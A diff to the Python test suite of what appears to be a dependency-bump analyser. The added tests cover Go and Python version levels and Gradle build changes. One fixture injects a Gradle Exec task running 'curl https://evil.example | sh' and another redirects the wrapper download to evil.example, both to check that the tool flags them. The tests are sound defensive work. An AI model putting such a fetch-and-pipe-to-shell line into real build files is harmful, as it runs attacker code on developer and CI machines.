@@ -89,7 +89,7 @@ def test_a_tool_bump_is_an_upgrade_with_its_level() -> None:
     head = actions.parse_workflow("ci.yml", _workflow(go="1.26", helm="v4.2.0", mac="15"))
     changes = diff(base, head, "ci.yml")
     moved = {(c.ecosystem, c.name): (c.from_version, c.to_version, c.change, c.level) for c in changes}
-    assert moved == {("tool", "go"): ("1.25", "1.26", "upgraded", "minor"),
+    assert moved == {("tool", "go"): ("1.25", "1.26", "upgraded", "major"),  # a Go release line: major
                      ("tool", "helm/helm"): ("v4.1.4", "v4.2.0", "upgraded", "minor"),
                      ("github-runner", "macos"): ("14", "15", "upgraded", "major")}
 
@@ -106,6 +106,15 @@ def test_a_runner_label_without_a_version_is_none() -> None:
     found = _found(actions.parse_workflow("ci.yml", b"jobs:\n  a:\n    runs-on: ubuntu-latest\n"
                                                       b"  b:\n    runs-on: ${{ matrix.os }}\n"))
     assert found == set()
+
+
+def test_a_new_release_line_of_a_language_is_major() -> None:
+    base = golang.parse_go_mod("go.mod", b"module m\n\ngo 1.22\n")
+    head = golang.parse_go_mod("go.mod", b"module m\n\ngo 1.23\n")
+    assert [(c.change, c.level) for c in diff(base, head, "go.mod")] == [("upgraded", "major")]
+    base = actions.parse_workflow("ci.yml", b"      with:\n        python-version: '3.12.4'\n")
+    head = actions.parse_workflow("ci.yml", b"      with:\n        python-version: '3.12.5'\n")
+    assert [(c.change, c.level) for c in diff(base, head, "ci.yml")] == [("upgraded", "patch")]
 
 
 def test_go_mod_go_and_toolchain_lines() -> None:
@@ -554,3 +563,25 @@ ingress:
         f"a{i}: &a [{', '.join(['*a'] * 10)}]\n" for i in range(1, 120))
     with pytest.raises(ManifestError, match="aliases"):  # redefinition does not lift the alias cap
         helmvalues.parse_values("values.yaml", bomb.encode())
+
+
+@pytest.mark.parametrize("path, base, head", [
+    ("build.gradle.kts", BUILD_KTS, BUILD_KTS.replace(b"guava:32.1.3-jre", b"guava:33.0.0-jre")
+     + b'tasks.register<Exec>("x") { commandLine("sh", "-c", "curl https://evil.example | sh") }\n'),
+    ("gradle/wrapper/gradle-wrapper.properties",
+     b"distributionSha256Sum=aa\ndistributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n",
+     b"distributionSha256Sum=bb\ndistributionUrl=https\\://evil.example/distributions/gradle-8.6-bin.zip\n"),
+])
+def test_build_logic_beside_a_bump_is_a_problem_not_the_bump(tmp_path: Path, path: str, base: bytes,
+                                                            head: bytes) -> None:
+    patch, truth = _two_commits(tmp_path, {path: base}, {path: head})
+    for delta in (patch, truth):  # the bump may be shown, but never alone: the file is a problem
+        assert [p.manifest for p in delta.problems if p.kind == "partial"], delta
+
+
+def test_a_wrapper_bump_with_its_checksum_is_only_a_bump(tmp_path: Path) -> None:
+    url = b"distributionSha256Sum=%s\ndistributionUrl=https\\://services.gradle.org/distributions/gradle-%s-bin.zip\n"
+    path = "gradle/wrapper/gradle-wrapper.properties"
+    patch, truth = _two_commits(tmp_path, {path: url % (b"aa", b"8.5")}, {path: url % (b"bb", b"8.6")})
+    assert _moves(truth) == _moves(patch) == {("gradle", "8.5", "8.6")}
+    assert not truth.problems and not patch.problems
